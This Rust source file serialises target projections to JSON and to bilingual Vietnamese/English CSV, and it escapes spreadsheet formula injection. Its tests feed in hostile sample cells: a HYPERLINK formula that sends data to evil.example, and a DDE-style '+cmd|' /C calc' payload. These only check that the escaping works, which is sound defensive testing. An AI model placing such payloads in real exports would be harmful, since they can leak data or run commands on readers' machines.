//! A projection written out: JSON and CSV for machines (the command-line tool and tests), and the CSV the
//! widget downloads for a reader's spreadsheet, in the reader's language. Numbers are plain (a point for
//! decimals, no grouping), rounded to six decimals.

use crate::engine::{MilestoneState, Outcome, Projection, TargetResult};
use crate::scenario::Scenario;
use crate::sheet::Sheet;
use serde_json::{json, Value};

/// Rounds to six decimals, so that output can be followed by hand and compared across platforms.
pub fn round6(x: f64) -> f64 {
    let r = (x * 1e6).round() / 1e6;
    if r == 0.0 {
        0.0
    } else {
        r
    }
}

fn num(x: Option<f64>) -> Value {
    x.filter(|v| v.is_finite()).map_or(Value::Null, |v| json!(round6(v)))
}

fn target_json(sheet: &Sheet, r: &TargetResult) -> Value {
    let Some(t) = sheet.target(&r.id) else { return Value::Null };
    let o = r.outcome.as_ref();
    let milestones: Vec<Value> = o
        .map(|o| {
            o.milestones
                .iter()
                .map(|m| {
                    let mut v = json!({
                        "date": m.date.iso(),
                        "comparator": m.comparator.code(),
                        "value": round6(m.value),
                        "at": round6(m.at),
                        "estimated": m.estimated,
                        "state": m.state.code(),
                    });
                    if let MilestoneState::Pending { projected_met } = m.state {
                        v["projected_met"] = json!(projected_met);
                    }
                    v
                })
                .collect()
        })
        .unwrap_or_default();
    json!({
        "id": r.id,
        "status": r.status().code(),
        // A quarterly figure before the first quarter's end is not used: nothing is projected from it.
        "projected": num(o.and_then(Outcome::projected_value)),
        "target": round6(t.value),
        "comparator": t.comparator.code(),
        // Sheet format 2: a range's high end, which way is better, "about" and a change from a baseline,
        // and the level the indicator must end on the better side of (`threshold`).
        "target_high": num(t.high),
        "better": t.better.code(),
        "tolerance": num(t.tolerance),
        "baseline": t.baseline.map_or(Value::Null, |b| json!({"value": round6(b.value), "date": b.date.iso(), "change": b.change.code()})),
        "threshold": round6(t.rule().threshold),
        "change_projected": num(o.and_then(|o| t.change_at(o.projected))),
        "attainment": num(o.and_then(|o| o.attainment)),
        "required_pace": num(o.and_then(|o| o.required_rate)),
        "pace_ratio": num(o.and_then(|o| o.pace_ratio)),
        "method": o.map_or(Value::Null, |o| json!(o.method.code())),
        // With the profile method: the share of the period's total the profile usually brings by now.
        "profile_share": num(o.and_then(|o| o.share_so_far)),
        "deadline": t.deadline.map_or(Value::Null, |d| json!(d.iso())),
        "growth_so_far": num(o.and_then(|o| o.growth_so_far)),
        "growth_required": num(o.and_then(|o| o.growth_required)),
        // The range and the probability are null when not estimated (no spread): never a fake certainty.
        "low": num(o.filter(|o| o.probability.is_some()).map(|o| o.low)),
        "high": num(o.filter(|o| o.probability.is_some()).map(|o| o.high)),
        "probability": num(o.and_then(|o| o.probability)),
        // Where the range and the probability come from: "history" (earlier years' errors, with how
        // many years), "volatility", or null when not estimated.
        "spread_from": o.and_then(|o| o.spread_from.code()).map_or(Value::Null, |c| json!(c)),
        "history_years": match o.map(|o| o.spread_from) {
            Some(crate::engine::SpreadFrom::History(n)) => json!(n),
            _ => Value::Null,
        },
        "milestones": milestones,
    })
}

/// The whole projection as JSON: the scenario's identity, the scoreboard and one object per target.
pub fn to_json(sheet: &Sheet, scenario: &Scenario, p: &Projection) -> Value {
    json!({
        "sheet": sheet.id,
        "scenario": scenario.name,
        "as_of": scenario.as_of.iso(),
        "months_elapsed": round6(p.elapsed),
        "months_remaining": round6(p.remaining),
        "scoreboard": {
            "met": p.met,
            "with_data": p.with_data,
            "no_data": p.no_data,
            "targets": p.results.len(),
        },
        "targets": p.results.iter().map(|r| target_json(sheet, r)).collect::<Vec<_>>(),
    })
}

/// A text cell: quoted when it holds a comma, a quote or a line break, and neutralised when a
/// spreadsheet would read it as a formula (it begins with `=`, `+`, `-`, `@`, a tab or a carriage return:
/// OWASP's advice, a leading `'`). Numbers are never written through this (`csv_num`), so "-5" stays a
/// number.
pub fn csv_field(s: &str) -> String {
    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_string() };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// A number cell: rounded to six decimals, empty when absent or not finite.
pub fn csv_num(x: Option<f64>) -> String {
    x.filter(|v| v.is_finite()).map(|v| round6(v).to_string()).unwrap_or_default()
}

pub const CSV_HEADER: &str = "id,status,projected,target,comparator,attainment,required_pace,pace_ratio,low,high,probability,milestones,method,better,target_high,threshold,spread_from,deadline";

/// One CSV row per target, after a header row. Milestones share one cell: "2022-09-30 >= 70: missed".
pub fn to_csv(sheet: &Sheet, p: &Projection) -> String {
    csv(sheet, p, None)
}

/// The columns of the widget's CSV download, in Vietnamese and in English: those of [`CSV_HEADER`], then
/// the target's label, its unit, the scenario's name and its as-of date, then a range target's high end,
/// the projection's method and where its range comes from, in words, and the day a target with a deadline
/// of its own is judged.
const EXPORT_HEADER: [(&str, &str); 20] = [
    ("mã chỉ tiêu", "target id"),
    ("trạng thái", "status"),
    ("dự báo cuối kỳ", "projected"),
    ("giá trị chỉ tiêu", "target value"),
    ("phép so sánh", "comparison"),
    ("mức đạt", "attainment"),
    ("mức cần cho các tháng còn lại", "required for the months left"),
    ("gấp tốc độ hiện nay (lần)", "times the pace so far"),
    ("khoảng 80%: thấp", "80% range: low"),
    ("khoảng 80%: cao", "80% range: high"),
    ("xác suất đạt", "probability of meeting"),
    ("các mốc", "milestones"),
    ("chỉ tiêu", "target"),
    ("đơn vị", "unit"),
    ("kịch bản", "scenario"),
    ("ngày số liệu", "as-of date"),
    ("giá trị chỉ tiêu: đầu cao của khoảng", "target value: the range's high end"),
    ("cách dự báo", "projection method"),
    ("khoảng 80% tính từ", "80% range from"),
    ("hạn đánh giá", "judged on"),
];

/// The widget's CSV download: a byte-order mark (so spreadsheet programs read Vietnamese as UTF-8), then
/// the columns of [`to_csv`] and each target's label in the reader's language, the scenario's name and
/// its as-of date on every row. Every word follows the reader's language: the header, the status and the
/// milestones, in the widget's own words (`present::status_word`, `present::milestone_line`). Numbers are
/// plain decimals with a point, for any program to read.
pub fn to_export_csv(
    sheet: &Sheet,
    scenario_name: &str,
    as_of: crate::date::Date,
    p: &Projection,
    l: crate::i18n::Locale,
) -> String {
    format!("\u{feff}{}", csv(sheet, p, Some((scenario_name, as_of, l))))
}

fn csv(sheet: &Sheet, p: &Projection, export: Option<(&str, crate::date::Date, crate::i18n::Locale)>) -> String {
    let mut out = match export {
        Some((.., l)) => EXPORT_HEADER.iter().map(|&(vi, en)| csv_field(l.pick(vi, en))).collect::<Vec<_>>().join(","),
        None => String::from(CSV_HEADER),
    };
    out.push('\n');
    for r in &p.results {
        let Some(t) = sheet.target(&r.id) else { continue };
        let o = r.outcome.as_ref();
        let milestones = o
            .map(|o| {
                o.milestones
                    .iter()
                    .map(|m| match export {
                        Some((.., l)) => crate::present::milestone_line(sheet, t, m, l),
                        None => {
                            format!("{} {} {}: {}", m.date.iso(), m.comparator.code(), round6(m.value), m.state.code())
                        }
                    })
                    .collect::<Vec<_>>()
                    .join("; ")
            })
            .unwrap_or_default();
        let status = match export {
            Some((.., l)) => crate::present::status_word(r.status(), l),
            None => r.status().code(),
        };
        let cells = [
            csv_field(&r.id),
            csv_field(status),
            csv_num(o.and_then(Outcome::projected_value)),
            csv_num(Some(t.value)),
            t.comparator.code().to_string(),
            csv_num(o.and_then(|o| o.attainment)),
            csv_num(o.and_then(|o| o.required_rate)),
            csv_num(o.and_then(|o| o.pace_ratio)),
            csv_num(o.filter(|o| o.probability.is_some()).map(|o| o.low)),
            csv_num(o.filter(|o| o.probability.is_some()).map(|o| o.high)),
            csv_num(o.and_then(|o| o.probability)),
            csv_field(&milestones),
        ];
        out.push_str(&cells.join(","));
        // The command's CSV ends with the method each projection used (empty without data).
        // Then which way is better, a range's high end, and the level that meets the target.
        if export.is_none() {
            out.push(',');
            out.push_str(o.map_or("", |o| o.method.code()));
            // And where the range comes from (empty when not estimated).
            let spread = o.and_then(|o| o.spread_from.code()).unwrap_or("").to_string();
            // And a deadline of the target's own (empty: the period's end).
            let deadline = t.deadline.map(|d| d.iso()).unwrap_or_default();
            for cell in
                [t.better.code().to_string(), csv_num(t.high), csv_num(Some(t.rule().threshold)), spread, deadline]
            {
                out.push(',');
                out.push_str(&cell);
            }
        }
        if let Some((name, as_of, l)) = export {
            let unit = sheet.unit(t).label.get(l);
            for cell in [t.label.get(l), unit, name, &as_of.iso()] {
                out.push(',');
                out.push_str(&csv_field(cell));
            }
            let method = o.map_or("", |o| match o.method {
                crate::engine::Method::Flat => l.pick("tốc độ hiện nay", "the pace so far"),
                crate::engine::Method::Profile => {
                    l.pick("tỷ trọng thường thấy của các tháng", "the months' usual shares")
                }
                crate::engine::Method::LastYear => l.pick("cùng kỳ năm trước", "the same period last year"),
            });
            let spread = match o.map(|o| o.spread_from) {
                Some(crate::engine::SpreadFrom::History(_)) => l.pick("sai số các năm trước", "earlier years' errors"),
                Some(crate::engine::SpreadFrom::Volatility) => l.pick("độ dao động đã nhập", "the volatility given"),
                _ => "",
            };
            let deadline = t.deadline.map(|d| d.iso()).unwrap_or_default();
            for cell in [csv_num(t.high), csv_field(method), csv_field(spread), deadline] {
                out.push(',');
                out.push_str(&cell);
            }
        }
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_a_spreadsheet_would_run_is_neutralised() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Sources\")",
                "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Sources\"\")\"",
            ),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "\"'\rx\""),
            ("a=b", "a=b"),
            ("Thu ngân sách", "Thu ngân sách"),
        ];
        for (text, cell) in cases {
            assert_eq!(csv_field(text), cell, "{text:?}");
        }
        assert_eq!(csv_num(Some(-5.0)), "-5", "numbers stay numbers");
    }

    #[test]
    fn csv_fields_are_quoted_only_when_needed() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(round6(1_259.999_999_999_8), 1260.0);
        assert_eq!(round6(-0.000_000_1), 0.0);
    }

    fn published() -> (Sheet, Scenario, Projection) {
        let sheet = Sheet::kontum().unwrap();
        let text = include_str!("../data/scenarios/kontum-published-2022-09-30.json");
        let scenario = Scenario::parse(text, &sheet).unwrap();
        let p = crate::engine::project(&sheet, &scenario);
        (sheet, scenario, p)
    }

    #[test]
    fn neither_csv_holds_a_cell_a_spreadsheet_would_run() {
        let (mut sheet, scenario, _) = published();
        let t = sheet.targets.iter_mut().find(|t| t.id == "jobs").unwrap();
        t.label.vi = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Nguồn\")".into();
        t.label.en = "@SUM(A1:A9)".into();
        let p = crate::engine::project(&sheet, &scenario);
        let both = [
            to_csv(&sheet, &p),
            to_export_csv(&sheet, "+cmd|' /C calc'!A0", scenario.as_of, &p, crate::i18n::Locale::Vi),
            to_export_csv(&sheet, "-x", scenario.as_of, &p, crate::i18n::Locale::En),
        ];
        for csv in &both {
            for line in csv.trim_start_matches('\u{feff}').lines() {
                // A cell starts the line or follows a comma; quoted cells start after the quote.
                for cell in std::iter::once(line).chain(line.match_indices(',').map(|(i, _)| &line[i + 1..])) {
                    let cell = cell.trim_start_matches('"');
                    assert!(!cell.starts_with(['=', '+', '@']), "a live formula in {line}");
                    assert!(!cell.starts_with('-') || cell[1..].starts_with(|c: char| c.is_ascii_digit()), "{line}");
                }
            }
        }
        assert!(both[1].contains("\"'=HYPERLINK("), "the text is kept, neutralised");
    }

    #[test]
    fn the_export_speaks_the_readers_language_in_every_word() {
        use crate::i18n::Locale::{En, Vi};
        let (sheet, scenario, p) = published();
        let vi = to_export_csv(&sheet, "Số liệu đã công bố", scenario.as_of, &p, Vi);
        let lines: Vec<&str> = vi.trim_start_matches('\u{feff}').lines().collect();
        assert_eq!(
            lines[0],
            "mã chỉ tiêu,trạng thái,dự báo cuối kỳ,giá trị chỉ tiêu,phép so sánh,mức đạt,mức cần cho các tháng còn \
             lại,gấp tốc độ hiện nay (lần),khoảng 80%: thấp,khoảng 80%: cao,xác suất đạt,các mốc,chỉ tiêu,đơn vị,\
             kịch bản,ngày số liệu,giá trị chỉ tiêu: đầu cao của khoảng,cách dự báo,khoảng 80% tính từ,hạn đánh giá"
        );
        assert!(lines.iter().find(|l| l.starts_with("budget-revenue,")).unwrap().ends_with(",,tốc độ hiện nay,,"));
        // The disbursement target's milestones: 70% by 30 September, missed; 100% by its deadline, pending.
        let d = lines.iter().find(|l| l.starts_with("disbursement,")).unwrap();
        assert!(d.starts_with("disbursement,Cần tăng tốc,90.666667,100,>=,") && d.ends_with(",2023-01-31"), "{d}");
        assert!(
            d.contains(
                ",\"30/9/2022 ≥ 70%: không đạt (thực tế 60,0%); 31/1/2023 ≥ 100%: dự kiến không đạt (dự báo 90,7%)\","
            ),
            "{d}"
        );
        // No English word in any cell but the targets' ids, which are codes.
        const ENGLISH: [&str; 24] = [
            "id",
            "status",
            "projected",
            "target",
            "comparator",
            "attainment",
            "required",
            "pace",
            "ratio",
            "low",
            "high",
            "probability",
            "milestones",
            "label",
            "unit",
            "scenario",
            "as_of",
            "met",
            "missed",
            "pending",
            "estimated",
            "actual",
            "track",
            "data",
        ];
        for line in &lines {
            let (_, cells) = line.split_once(',').unwrap();
            let words = cells.split(|c: char| !(c.is_alphanumeric() || c == '_'));
            let english: Vec<&str> = words.filter(|w| ENGLISH.contains(&w.to_lowercase().as_str())).collect();
            assert!(english.is_empty(), "{english:?} in {line}");
        }
        let en = to_export_csv(&sheet, "Published figures", scenario.as_of, &p, En);
        assert!(
            en.contains(",30 Sep 2022 ≥ 70%: missed (actual 60.0%); 31 Jan 2023 ≥ 100%: projected to be missed"),
            "{en}"
        );
        assert!(en.contains("\ndisbursement,Needs acceleration,90.666667,100,>=,"), "{en}");
        assert!(!en.lines().next().unwrap().contains('_'), "the header in words: {en}");
        // A range target's high end, and the range's source in words (the national sheet's GDP).
        let national = Sheet::parse(include_str!("../data/sheets/vn-68-2022-qh15-2023.json")).unwrap();
        let s = crate::scenario::Scenario::parse(
            include_str!("../data/scenarios/vn-68-2022-qh15-2023-09-30.json"),
            &national,
        )
        .unwrap();
        let csv = to_export_csv(&national, "x", s.as_of, &crate::engine::project(&national, &s), En);
        let row = |id: &str| csv.lines().find(|l| l.starts_with(&format!("{id},"))).unwrap().to_string();
        assert!(row("manufacturing-share").contains(",25.8,"), "{}", row("manufacturing-share"));
        assert!(row("gdp-growth").ends_with(",,the pace so far,earlier years' errors,"), "{}", row("gdp-growth"));
        // The command's CSV is for machines and keeps its codes.
        assert!(to_csv(&sheet, &p).contains("2022-09-30 >= 70: missed; 2023-01-31 >= 100: pending"));
    }
}
